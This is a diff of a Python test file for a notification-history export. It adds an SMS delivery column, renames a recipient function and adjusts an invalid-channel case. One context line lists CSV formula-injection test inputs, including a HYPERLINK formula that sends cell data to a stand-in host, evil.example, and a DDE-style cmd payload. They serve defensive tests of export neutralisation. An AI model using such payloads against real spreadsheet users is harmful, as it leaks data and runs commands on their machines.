@@ -30,7 +30,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C cal
 HARMLESS = ['plain, with a comma and "quotes"', "Grüße ✓ 日本", "line one\nline two", "1+1", "a=b"]
 CSV_COLUMNS = ["id", "type", "priority", "status", "title", "body", "data", "read_at", "created_at", "expires_at",
                "group_key", "group_count", "action_taken", "action_taken_at",
-               "delivery_in_app", "delivery_push", "delivery_email"]  # fmt: skip
+               "delivery_in_app", "delivery_push", "delivery_email", "delivery_sms"]  # fmt: skip
 
 
 def headers(user: uuid.UUID) -> dict[str, str]:
@@ -41,7 +41,7 @@ def add_notifications(db: psycopg.Connection[Any], user: uuid.UUID, titles: list
     """One notification per title through the real triggers (planned deliveries), made over time with the clock
     pinned (a created_at never changes once made). The user has an address and no device: every other one asks
     for push too, which is skipped (no delivery row)."""
-    db.execute("SELECT notify.upsert_recipient(%s, %s, 'en', 'UTC', NULL)", (user, f"{user.hex}@example.com"))
+    db.execute("SELECT notify.upsert_recipient_v2(%s, %s, 'en', 'UTC', NULL)", (user, f"{user.hex}@example.com"))
     db.execute("UPDATE notify.settings SET value = 'true' WHERE key = 'clock.pinnable'")
     for i, title in enumerate(titles):
         db.execute("SELECT set_config('notify.clock', %s, false)", ((BASE - timedelta(hours=i)).isoformat(),))
@@ -123,7 +123,7 @@ def neutralised(value: str) -> str:
 
 def csv_row(item: dict[str, Any]) -> list[str]:
     """What the export's CSV line of a history item must say (data compared as JSON by the caller)."""
-    flat = {**item, **{f"delivery_{c}": item["delivery_status"].get(c) for c in ("in_app", "push", "email")}}
+    flat = {**item, **{f"delivery_{c}": item["delivery_status"].get(c) for c in ("in_app", "push", "email", "sms")}}
     return [neutralised("" if flat[c] is None else str(flat[c])) if c != "data" else "" for c in CSV_COLUMNS]
 
 
@@ -220,7 +220,7 @@ BAD_PAGES = [
     {"from": "2025-03-01T00:00:00Z", "to": "2025-03-01T00:00:00Z"},
     {"status": "maybe"},
     {"delivery_status": "lost"},
-    {"channel": "sms"},
+    {"channel": "fax"},
     {"type": ""},
     {"limit": "0"},
     {"limit": "101"},
@@ -311,7 +311,7 @@ def rss(server: ServerProcess) -> int:
 
 @pytest.mark.parametrize("fmt", ["csv", "json"])
 def test_a_100000_row_export_streams_in_flat_memory(db: psycopg.Connection[Any], own_server: Any, fmt: str) -> None:
-    db.execute("SELECT notify.upsert_recipient(%s, NULL, 'en', 'UTC', NULL)", (ALICE,))
+    db.execute("SELECT notify.upsert_recipient_v2(%s, NULL, 'en', 'UTC', NULL)", (ALICE,))
     with db.transaction():  # the triggers are off inside this transaction only
         for statement in BULK:
             db.execute(statement, {"user": ALICE, "base": BASE, "many": MANY})
